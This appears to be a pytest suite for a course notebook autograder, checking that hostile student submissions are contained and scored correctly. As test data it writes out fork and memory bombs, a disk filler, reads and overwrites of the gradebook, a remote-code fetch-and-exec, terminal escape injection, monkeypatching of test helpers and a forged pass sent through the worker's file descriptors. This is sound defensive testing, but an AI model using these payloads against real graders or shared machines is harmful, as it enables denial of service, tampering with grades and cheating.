"""Hostile submissions: each is graded correctly, in one batch with honest ones.

Every case of the issue is a submission of the tiny course (``npfl_course.demo``: tests
``test_add`` 1 point, ``test_mul`` 2, ``test_square`` 1). Most attack through ``mul`` or a
cell next to it, so the affected tests are known: they must get 0 with a readable reason
(checked against ``Outcome.lost``, which is what the summary and the feedback show), the
other tests their points, the honest submissions in the same batch their correct scores,
and nothing in the course directory may change except what grading writes.
"""

from __future__ import annotations

import copy
import functools
import hashlib
import http.server
import json
import os
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest
from tiny_course import tiny_course

from npfl_course import autograde as ag
from npfl_course.autograde.merge import MAX_EXECUTED_VALUES, merge, parse_executed
from npfl_course.autograde.outcome import Outcome, Report, printable
from npfl_course.check import cells_by_kind, make_submission
from npfl_course.course import generate_assignment, load_course
from npfl_course.sandbox import Limits, SandboxResult, isolation, sandbox_available
from npfl_course.sandbox.files import disk_usage, remove_tree
from npfl_course.worker.protocol import MAX_NOTEBOOK_OUTPUTS, MAX_OUTPUTS, WORKER_OUTPUTS

pytestmark = pytest.mark.filterwarnings("ignore::nbformat.warnings.DuplicateCellId")
# 1024 MiB: room for torch (the CUDA build's import takes about 700 MiB of RLIMIT_DATA),
# and the memory bomb (which writes every page it allocates) fails within a cell's limit.
# 8 s a cell: the memory bomb takes 0.4 s alone and 1.7 s beside six CPU-bound sessions,
# but once ran past 4 s in CI's first stage (two test processes, each grading two
# notebooks at a time, on 2 cores).
# 500 MiB of disk: the disk filler writes 1600 MB.
LIMITS = Limits(notebook_seconds=90, cell_seconds=8, memory_mb=1024, max_processes=64,
                disk_mb=500)  # fmt: skip
POINTS = {"test_add": 1, "test_mul": 2, "test_square": 1}
WRONG_MUL = "def mul(a, b):\n    return a + b"
# What grading may write in the course (.npfl-preflight.json: the remembered preflight).
GRADING_OUTPUTS = ("autograded", "gradebook.db", ".npfl-preflight.json")
SANDBOX_ONLY = {"read_course_files", "write_outside_its_folder", "open_a_network_connection"}
# Without bubblewrap, autograde needs --no-sandbox. As root it then runs student code as an
# unprivileged uid of its own ("uid"), which keeps the course's files safe; where it cannot
# ("none": e.g. a Python under /root), student code could rewrite the gradebook, so this
# suite, which grades hostile code, does not run there (npfl-course doctor says why).
ISOLATION = isolation()[0]
pytestmark = [
    pytestmark,
    pytest.mark.skipif(
        ISOLATION == "none",
        reason="student code would run as the grader's own user here (no bwrap, no other uid)",
    ),
]


def _mul(body: str) -> str:
    return "def mul(a, b):\n" + "".join(f"    {line}\n" for line in body.splitlines())


def _hash(directory: Path) -> dict[str, str]:
    hashes = {}
    for path in sorted(directory.rglob("*")):
        relative = path.relative_to(directory)
        if path.is_file() and relative.parts[0] not in GRADING_OUTPUTS:
            hashes[str(relative)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return hashes


class _Server(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self):  # noqa: N802 - http.server's name
        _Server.requests.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"def mul(a, b):\n    return a * b\n")

    def log_message(self, *args):
        pass


# Takes 4 x 400 MB of disk, 50 MB every 50 ms (1 GB/s). posix_fallocate takes real
# blocks without writing them, so the test does not depend on the disk's speed (84 MB/s
# on a busy CI VM would not reach the limit within a cell's time); the pauses let the
# watchdog look.
FILL_THE_DISK = textwrap.dedent("""
    import os, time
    for i in range(4):
        with open(f"big{i}", "wb") as f:
            for step in range(8):
                os.posix_fallocate(f.fileno(), step * (50 << 20), 50 << 20)
                time.sleep(0.05)
    time.sleep(2)
""")
# Builds a tree 1,500 folders deep with a file in each, step by step (PATH_MAX limits what
# one call may name); shutil.rmtree of Python 3.11 recurses and fails on it.
DEEP_TREE = textwrap.dedent("""
    import os
    top = os.getcwd()
    for i in range(1500):
        os.mkdir("d")
        with open("f", "w") as f:
            f.write("x" * 100)
        os.chdir("d")
    os.chmod(".", 0o500)
    os.chdir(top)
""")
# Writes the worker's output notebook itself, with COUNT empty displays in this cell, and
# kills the worker, so that the grader reads it.
ESCAPES = "\x1b]0;pwned\x07\x1b[2J"  # a terminal's title, then clear the screen
# Tries to write a result of its own ("every cell ran, none failed") into the worker's
# result channel through each of the worker's descriptors, then kills the worker so that
# it cannot overwrite the forgery. The worker is not dumpable: /proc/<worker>/fd is closed.
FORGE_A_PASS = textwrap.dedent("""
    import json, os, signal
    cells = [{"cell_type": "code", "source": "", "metadata": {}, "outputs": [],
              "execution_count": None} for _ in range(50)]
    forged = json.dumps({"cells": cells, "metadata": {"npfl_execute": {
        "cells_run": 50, "done": True}}, "nbformat": 4, "nbformat_minor": 5}).encode()
    worker, reached = os.getppid(), []
    for fd in os.listdir(f"/proc/{worker}/fd") if os.access(f"/proc/{worker}/fd", os.R_OK) else []:
        try:
            with open(f"/proc/{worker}/fd/{fd}", "r+b") as handle:
                handle.truncate(0)
                handle.write(b"npfl-result 999999 %d\\n" % len(forged) + forged)
                reached.append(fd)
        except OSError:
            pass
    print("reached", reached)
    os.kill(worker, signal.SIGKILL)
""")


PATCH_HELPERS = textwrap.dedent("""
    import signal, torch
    import npfl_lib.grading as grading
    real = grading.check_close.__code__
    def swap(*args):
        grading.check_close.__code__ = (lambda *a, **k: None).__code__
        signal.setitimer(signal.ITIMER_REAL, 0)
    def restore(*args):
        grading.check_close.__code__ = real
    get_ipython().events.register("pre_run_cell", swap)
    get_ipython().events.register("post_run_cell", restore)
    torch.Tensor.all = lambda *args, **kwargs: torch.tensor(True)
""")
REWRITE_CELLS = textwrap.dedent("""
    import gc
    for obj in gc.get_objects():
        if isinstance(obj, dict) and obj.get("cell_type") == "code":
            obj["source"], obj["outputs"] = "pass", []
""")
TRANSFORM_CELL = "type(get_ipython()).transform_cell = lambda self, cell: 'pass\\n'"


def _insert_after(notebook, grade_id: str, code: str):
    notebook = copy.deepcopy(notebook)
    index = next(i for i, c in enumerate(notebook.cells) if _id(c) == grade_id)
    notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    return notebook


def _id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _submissions(course_dir: Path, port: int, outside: Path) -> dict[str, object]:
    """student -> a notebook, bytes for an unreadable one, or {file name: bytes}."""
    release = nbformat.read(course_dir / "release" / "tiny" / "tiny.ipynb", 4)
    source = nbformat.read(course_dir / "source" / "tiny" / "tiny.ipynb", 4)
    full = make_submission(release, source)
    wrong = make_submission(release, source, {"mul": WRONG_MUL})

    def with_mul(body: str):
        return make_submission(release, source, {"mul": _mul(body)})

    deleted = copy.deepcopy(wrong)
    deleted.cells = [c for c in deleted.cells if _id(c) != "test_mul"]
    duplicated = copy.deepcopy(wrong)
    test_mul = next(i for i, c in enumerate(duplicated.cells) if _id(c) == "test_mul")
    fake = copy.deepcopy(duplicated.cells[test_mul])
    fake.source = "pass"
    duplicated.cells.insert(test_mul + 1, fake)
    reordered = copy.deepcopy(wrong)
    setup = next(c for c in reordered.cells if _id(c) == "setup")
    reordered.cells = [c for c in reordered.cells if c is not setup] + [setup]
    reordered.cells.insert(0, nbformat.v4.new_code_cell(
        "import contextlib\ncheck_close = lambda *a, **k: None\n"
        "forbid = time_limit = lambda *a: contextlib.nullcontext()"))  # fmt: skip
    type_changed = copy.deepcopy(wrong)
    cell = cells_by_kind(type_changed, "test")["test_mul"]
    cell.cell_type = "markdown"
    del cell["outputs"], cell["execution_count"]
    edited = copy.deepcopy(wrong)
    cells_by_kind(edited, "test")["test_mul"].source = "pass"
    source_path = course_dir / "source" / "tiny" / "tiny.ipynb"
    return {
        "honest_full": full,
        "honest_wrong_mul": wrong,
        "infinite_loop": with_mul("while True:\n    pass"),
        "memory_bomb": with_mul("hog = []\nwhile True:\n    hog.append(bytearray(10**8))"),
        # Small blocks leave no memory for the reply until the failed call's list is freed.
        "memory_bomb_small_blocks": with_mul(
            "hog = []\nwhile True:\n    hog.append(bytearray(1000))"
        ),
        "fork_bomb": with_mul(
            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
        ),
        "sys_exit": with_mul("import sys\nsys.exit(0)"),
        "os_exit": _insert_after(full, "test_add", "import os\nos._exit(0)"),
        "kill_own_kernel": _insert_after(
            full, "test_add", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"
        ),
        "deleted_test_cell": deleted,
        "duplicated_grade_id": duplicated,
        "reordered_cells": reordered,
        "type_changed_cell": type_changed,
        "edited_test_cell": edited,
        "invalid_json": b'{"cells": [',
        "empty_file": b"",
        "not_a_notebook": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        "no_notebook_at_all": {"homework.pdf": b"%PDF-1.4"},
        "gigantic_output": _insert_after(
            full, "mul", "for i in range(200_000):\n    print('spam', i)\nprint('x' * 10**7)"
        ),
        "patch_showtraceback": _insert_after(
            wrong,
            "mul",
            "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
            "type(ip)._showtraceback = lambda *a, **k: None",
        ),  # fmt: skip
        "patch_builtins": _insert_after(
            wrong, "mul", "import builtins\nbuiltins.AssertionError = type('No', (Exception,), {})"
        ),
        "patch_sys_modules": _insert_after(
            wrong,
            "mul",
            "import sys, types, contextlib\nfake = types.ModuleType('fake')\n"
            "fake.check_close = lambda *a, **k: None\n"
            "fake.forbid = fake.time_limit = lambda *a: contextlib.nullcontext()\n"
            "sys.modules['npfl_lib.grading'] = fake\n"
            "from npfl_lib.grading import check_close, forbid, time_limit",
        ),  # fmt: skip
        # Its own npfl_lib and torch beside the notebook, as JupyterLab would import them
        # (the notebook's folder comes first on sys.path): the grading helpers must not.
        "shadow_grading_modules": {
            "tiny.ipynb": wrong,
            "npfl_lib/__init__.py": b"",
            "npfl_lib/grading.py": b"import contextlib\ncheck_close = lambda *a, **k: None\n"
            b"forbid = time_limit = lambda *a, **k: contextlib.nullcontext()\n",
            "torch.py": b"raise SystemExit('shadowed')\n",
        },
        "read_course_files": _insert_after(
            wrong,
            "mul",
            f"import json\nnotebook = json.load(open({str(source_path)!r}))\n"
            "exec(''.join(notebook['cells'][3]['source']))\n"
            f"open({str(course_dir / 'gradebook.db')!r}, 'rb').read()",
        ),  # fmt: skip
        "write_outside_its_folder": _insert_after(
            wrong,
            "mul",
            f"open({str(outside)!r}, 'w').write('pwned')\n"
            f"open({str(course_dir / 'gradebook.db')!r}, 'w').write('pwned')\n"
            f"open({str(source_path)!r}, 'w').write('pwned')",
        ),  # fmt: skip
        "open_a_network_connection": _insert_after(
            wrong,
            "mul",
            "import urllib.request\n"
            f"exec(urllib.request.urlopen('http://127.0.0.1:{port}/mul', timeout=3).read())",
        ),  # fmt: skip
        "fill_the_disk": _insert_after(full, "mul", FILL_THE_DISK),
        "deep_tree": _insert_after(full, "mul", DEEP_TREE),
        "terminal_escapes": with_mul(f"raise ValueError({ESCAPES!r})"),
        # Issue 12: the shell's class patched so that every later cell runs as `pass`
        # (the tests too, when they ran in the kernel: full marks for the release).
        "release_patches_the_shells_class": _insert_after(release, "setup", TRANSFORM_CELL),
        "wrong_mul_patches_the_shells_class": _insert_after(wrong, "setup", TRANSFORM_CELL),
        # Callbacks around every cell that swap check_close's code, cancel the timers and
        # make every tensor comparison true: the kernel's, not the tests'.
        "wrong_mul_patches_the_tests_helpers": _insert_after(wrong, "setup", PATCH_HELPERS),
        # Rewrites every test cell it can find in memory (the executor's live cells, when
        # it ran in the kernel): there are none to find now.
        "wrong_mul_rewrites_the_test_cells": _insert_after(wrong, "setup", REWRITE_CELLS),
        # A result that nbgrader would read as the test cell's partial credit (2 of 2).
        "wrong_mul_shows_a_score": with_mul("import sys\nsys.displayhook(2.0)\nreturn a + b"),
        "forged_pass": _insert_after(wrong, "mul", FORGE_A_PASS),
        "forged_pass_after_a_full_solution": _insert_after(full, "mul", FORGE_A_PASS),
    }


# student -> {lost test: what its reason must contain}; the other tests keep their points.
DEAD = "DeadKernelError"
EXPECTED = {
    "honest_full": {},
    "honest_wrong_mul": {"test_mul": "AssertionError"},
    "infinite_loop": {"test_mul": "TimeoutError"},  # the test's time_limit(5) comes first
    "memory_bomb": {"test_mul": "memory limit exceeded (1024 MB)"},
    "memory_bomb_small_blocks": {"test_mul": "MemoryError: memory limit exceeded (1024 MB)"},
    "fork_bomb": {"test_mul": "TimeoutError"},
    "sys_exit": {"test_mul": "SystemExit"},
    "os_exit": {"test_mul": DEAD, "test_square": "the kernel's process exited with status 0"},
    "kill_own_kernel": {"test_mul": DEAD, "test_square": "killed by signal SIGKILL"},
    "deleted_test_cell": {"test_mul": "AssertionError"},
    "duplicated_grade_id": {"test_mul": "AssertionError"},
    "reordered_cells": {"test_mul": "AssertionError"},
    "type_changed_cell": {"test_mul": "AssertionError"},
    "edited_test_cell": {"test_mul": "AssertionError"},
    "invalid_json": {t: "not valid JSON" for t in POINTS},
    "empty_file": {t: "the file is empty" for t in POINTS},
    "not_a_notebook": {t: "SubmissionError" for t in POINTS},
    "no_notebook_at_all": {t: "no tiny.ipynb was submitted (found: homework.pdf)" for t in POINTS},
    "gigantic_output": {},
    "patch_showtraceback": {"test_mul": "AssertionError"},
    "patch_builtins": {"test_mul": "AssertionError"},
    "patch_sys_modules": {"test_mul": "AssertionError"},
    "shadow_grading_modules": {"test_mul": "AssertionError"},
    "read_course_files": {"test_mul": "AssertionError"},
    "write_outside_its_folder": {"test_mul": "AssertionError"},
    "open_a_network_connection": {"test_mul": "AssertionError"},
    "fill_the_disk": {
        t: "disk limit exceeded (500 MB in the work folder)" for t in ("test_mul", "test_square")
    },  # fmt: skip
    "deep_tree": {},
    "terminal_escapes": {"test_mul": "ValueError"},
    "release_patches_the_shells_class": {t: "is not defined" for t in POINTS},
    "wrong_mul_patches_the_shells_class": {t: "is not defined" for t in POINTS},
    "wrong_mul_patches_the_tests_helpers": {"test_mul": "AssertionError"},
    "wrong_mul_rewrites_the_test_cells": {"test_mul": "AssertionError"},
    "wrong_mul_shows_a_score": {"test_mul": "AssertionError"},
    "forged_pass": {"test_mul": DEAD, "test_square": DEAD},
    "forged_pass_after_a_full_solution": {"test_mul": DEAD, "test_square": DEAD},
}
NOTES = {  # what the summary must also say
    "deleted_test_cell": "'test_mul' was deleted; the original was put back",
    "duplicated_grade_id": "exists multiple times",
    "reordered_cells": "cells were moved",
    "type_changed_cell": "cell_type",
    "edited_test_cell": "'test_mul' was edited; the original was restored",
    "infinite_loop": None,
    "fill_the_disk": "disk limit exceeded (500 MB in the work folder)",
    "forged_pass": "killed by signal SIGKILL",
}
WATCHED: dict[str, object] = {}  # what the batch saw of its work folders (see batch)


def _mkdtemp(mkdtemp, work: str, suffix=None, prefix=None, dir=None) -> str:  # noqa: A002
    """``tempfile.mkdtemp``, the sandboxes' work folders and private /tmp in ``work``
    (not what outlives the batch: matplotlib's cache for the workers, built once)."""
    mine = dir is None and str(prefix).startswith(("npfl-autograde-", "npfl-sandbox-"))
    return mkdtemp(suffix, prefix, work if mine else dir)


def _watch_work_folders(folder: str, done: threading.Event) -> None:
    """Records the most disk one work folder in ``folder`` took, sampled every 20 ms."""
    while not done.is_set():
        with os.scandir(folder) as entries:
            work = [e.path for e in entries if e.name.startswith("npfl-autograde-")]
        for path in work:
            WATCHED["peak"] = max(WATCHED.get("peak", 0), disk_usage([path])[0])
        time.sleep(0.02)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """All submissions graded in one batch: (outcomes by student, course, hashes, server)."""
    root = tmp_path_factory.mktemp("hostile")
    course_dir = tiny_course(root / "course")
    course = load_course(course_dir)
    ok, log = generate_assignment(course, "tiny")
    assert ok, log
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Server)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    outside = root / "outside.txt"
    for student, notebook in _submissions(course_dir, server.server_port, outside).items():
        folder = course_dir / "submitted" / student / "tiny"
        folder.mkdir(parents=True)
        if isinstance(notebook, bytes):
            (folder / "tiny.ipynb").write_bytes(notebook)
        elif isinstance(notebook, dict) and "cells" not in notebook:  # files, not a notebook
            for name, data in notebook.items():
                (folder / name).parent.mkdir(parents=True, exist_ok=True)
                if isinstance(data, bytes):
                    (folder / name).write_bytes(data)
                else:
                    nbformat.write(data, folder / name)
        else:
            nbformat.write(notebook, folder / "tiny.ipynb")
    before = _hash(course_dir)
    # The work folders go to a folder of this batch (which other uids may enter), watched.
    # Not tempfile.tempdir: the sandbox uids' locks lie there, shared with other processes.
    work = tempfile.mkdtemp(prefix="npfl-hostile-work-")
    os.chmod(work, 0o755)
    mkdtemp, done = tempfile.mkdtemp, threading.Event()
    watcher = threading.Thread(target=_watch_work_folders, args=(work, done), daemon=True)
    watcher.start()
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(tempfile, "mkdtemp", functools.partial(_mkdtemp, mkdtemp, work))
            report = ag.autograde(course, "tiny", jobs=2, limits=LIMITS, progress=False,
                                  unsandboxed=ISOLATION != "bwrap")  # fmt: skip
    finally:
        done.set()
        watcher.join()
        WATCHED["left"] = os.listdir(work)
        remove_tree(work)
        server.shutdown()
    outcomes = {outcome.student: outcome for outcome in report.outcomes}
    yield outcomes, course, before, outside, report


@pytest.mark.slow
@pytest.mark.parametrize(
    "student",
    list(EXPECTED),
)
def test_hostile_submission_is_graded_correctly(batch, student):
    outcomes, _, _, _, report = batch
    if student in SANDBOX_ONLY and not report.sandboxed:
        pytest.skip("needs bubblewrap: without it the file system and network are shared")
    outcome = outcomes[student]
    expected = EXPECTED[student]
    assert outcome.status == "graded", outcome
    assert set(outcome.lost) == set(expected), f"{student}: {outcome.lost} {outcome.notes}"
    for test, reason in expected.items():
        assert reason in outcome.lost[test], f"{student}/{test}: {outcome.lost[test]!r}"
    assert outcome.score == sum(POINTS.values()) - sum(POINTS[t] for t in expected)
    if NOTES.get(student):
        assert any(NOTES[student] in note for note in outcome.notes), outcome.notes


@pytest.mark.slow
def test_the_course_directory_changes_only_where_grading_writes(batch):
    _, course, before, outside, report = batch
    assert _hash(course.root) == before
    if report.sandboxed:
        assert not outside.exists()
        assert _Server.requests == []
    # With or without bubblewrap, the gradebook holds every grade (the write attack failed).
    with course.gradebook() as gradebook:
        assert len(gradebook.assignment_submissions("tiny")) == len(EXPECTED)


@pytest.mark.slow
def test_the_disk_limit_holds_and_no_work_folder_is_left(batch):
    # The filler wrote 1600 MB under a limit of 500 MiB: the watchdog, which looks every
    # 100 ms, let a little more through (more on a loaded machine, where it looks late,
    # but far from all). The deep tree's folder was removed like the others.
    print(f"the largest work folder took {WATCHED['peak'] / 2**20:.0f} MiB")  # pytest -rP
    assert 500 << 20 <= WATCHED["peak"] < 1000 << 20, WATCHED
    assert WATCHED["left"] == []


@pytest.mark.slow
def test_student_text_reaches_the_terminal_only_escaped(batch):
    outcomes, _, _, _, report = batch
    assert outcomes["terminal_escapes"].lost["test_mul"] == f"ValueError: {ESCAPES}"
    summary = report.summary()
    assert "\x1b" not in summary and "\x07" not in summary
    assert "ValueError: \\x1b]0;pwned\\x07\\x1b[2J" in summary


@pytest.mark.slow
def test_gigantic_output_is_truncated(batch):
    _, course, _, _, _ = batch
    path = course.root / "autograded" / "gigantic_output" / "tiny" / "tiny.ipynb"
    assert path.stat().st_size < 1_000_000
    text = path.read_text()
    assert "output truncated" in text.lower()


@pytest.mark.slow
def test_the_batch_reports_every_submission_once(batch):
    outcomes, _, _, _, report = batch
    assert sorted(outcomes) == sorted(EXPECTED)
    assert len(report.outcomes) == len(EXPECTED)
    assert report.count("failed") == 0
    summary = report.summary()
    assert "memory limit exceeded" in summary and "TimeoutError" in summary


def test_sandbox_is_used_when_available():
    # CI installs bubblewrap (.ci/run): the isolation tests above must not be skipped there.
    if not sandbox_available():
        pytest.skip("bubblewrap is not installed here")
    assert sandbox_available()


# --- the parent reads what the submission may have written (no sandbox needed) ---------


def _prepared(code_cells: int):
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_markdown_cell("# text")]
    notebook.cells += [nbformat.v4.new_code_cell(f"x = {i}") for i in range(code_cells)]
    return notebook


def _forged(tmp_path: Path, prepared, outputs: dict[int, list]) -> bytes:
    """An output notebook as a broken worker could store it: ``outputs`` by cell index."""
    executed = json.loads(nbformat.writes(prepared))
    for index, cell_outputs in outputs.items():
        executed["cells"][index]["outputs"] = cell_outputs
    executed["metadata"]["npfl_execute"] = {"cells_run": len(prepared.cells), "done": True}
    return json.dumps(executed, separators=(",", ":")).encode()


DISPLAY = {"output_type": "display_data", "data": {}, "metadata": {}}
RESULT = SandboxResult(0, "", "")


@pytest.mark.parametrize("count", [100_000, 300_000])
@pytest.mark.parametrize("cells", [1, 50])
def test_a_flood_of_forged_outputs_is_merged_quickly(tmp_path, count, cells):
    # 100,000 empty displays took the parent's main thread 98-129 s (nbformat's validator
    # for each output), 300,000 took 7 minutes and 2.7 GB.
    prepared = _prepared(cells)
    data = _forged(
        tmp_path, prepared, {i: [DISPLAY] * (count // cells) for i in range(1, cells + 1)}
    )
    start = time.monotonic()
    merged = merge(prepared, parse_executed(data), RESULT, LIMITS)
    assert time.monotonic() - start < 10
    outputs = [o for c in merged.cells[1:] for o in c.outputs]
    errors = [o.evalue for o in outputs if o.output_type == "error"]
    if count * 6 > MAX_EXECUTED_VALUES:  # "{", "{", "{", "," "," "," per display: not parsed
        assert len(outputs) == cells and errors[0].startswith("the notebook's outputs were not")
        assert all(e.startswith("not read") for e in errors[1:])
    else:  # parsed, held to the bounds per cell and per notebook
        bound = MAX_NOTEBOOK_OUTPUTS + (WORKER_OUTPUTS + 1) * cells
        per_cell = max(len(c.outputs) for c in merged.cells[1:])
        assert len(outputs) <= bound and per_cell <= MAX_OUTPUTS + WORKER_OUTPUTS + 1
        assert errors and all("exceed what the grading worker writes" in e for e in errors)
    nbformat.validate(merged)


def test_outputs_beyond_the_bounds_fail_the_cell(tmp_path):
    # Dropping outputs silently could drop the error or the stderr that fails a test cell.
    prepared = _prepared(3)
    stream = {"output_type": "stream", "name": "stdout", "text": ["a", "b"]}
    error = {"output_type": "error", "ename": "AssertionError", "evalue": "", "traceback": []}
    outputs = {1: [DISPLAY] * (MAX_OUTPUTS + WORKER_OUTPUTS) + [error],
               2: [stream, {"output_type": "stream", "name": "stdout", "text": 5}, {}],
               3: [{"output_type": "stream", "name": "stderr", "text": "x" * 200_000}]}  # fmt: skip
    merged = merge(prepared, parse_executed(_forged(tmp_path, prepared, outputs)), RESULT, LIMITS)
    first, second, third = (c.outputs for c in merged.cells[1:])
    assert (
        first[-1].ename == "OutputError" and f"more than {MAX_OUTPUTS} outputs" in first[-1].evalue
    )
    assert second[0].text == "ab" and second[1].ename == "OutputError"
    assert second[1].evalue.endswith("not valid nbformat (2 of them)") and len(second) == 2
    assert third[-1].ename == "OutputError" and "characters of stream outputs" in third[-1].evalue
    nbformat.validate(merged)


def test_parse_executed_does_not_recurse():
    executed = parse_executed(b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    assert executed["cells"] is None and "nested too deeply" in executed["npfl_rejected"]
    assert parse_executed(b'{"cells": [], "metadata": 5}') == {"cells": []}  # typed for merge
    assert parse_executed(b"[1, 2]") is None and parse_executed(b"\xff") is None


def test_a_deeply_nested_output_fails_its_cell(tmp_path):
    deep_json = {"output_type": "display_data", "metadata": {},
                 "data": {"application/json": json.loads("[" * 100 + "]" * 100)}}  # fmt: skip
    prepared = _prepared(1)
    merged = merge(prepared, parse_executed(_forged(tmp_path, prepared, {1: [deep_json]})), RESULT,
                   LIMITS)  # fmt: skip
    assert merged.cells[1].outputs[0].evalue.endswith("not valid nbformat")


def test_printable_escapes_what_a_terminal_acts_on():
    text = f"ValueError: {ESCAPES}\tx\u202eevil\udce1\x9b31m\nnext\r"
    assert printable(text) == (
        "ValueError: \\x1b]0;pwned\\x07\\x1b[2J    x\\u202eevil\\udce1\\x9b31m\nnext\\r"
    )
    assert printable(text, one_line=True).endswith("\\x9b31m\\nnext\\r")
    assert printable("Nováček 学生") == "Nováček 学生"
    student = "evil\x1b[31m\nfake_student   graded   10/10\udcff"
    outcome = Outcome(student, "graded", 3, 4, lost={"test_\x1b[2J": f"ValueError: {ESCAPES}"},
                      notes=[f"cell 3: CellTimeoutError: {ESCAPES}"])  # fmt: skip
    summary = Report("tiny\x07", [outcome], 1.0, 1, isolation="bwrap").summary()
    summary.encode("utf-8")  # no lone surrogates: printing it cannot fail
    assert not any(c in summary for c in "\x1b\x07\x9b\r")
    assert "evil\\x1b[31m\\nfake_student" in summary and "\\udcff" in summary
    assert len(summary.splitlines()) == 5  # the student's newline is no line of its own
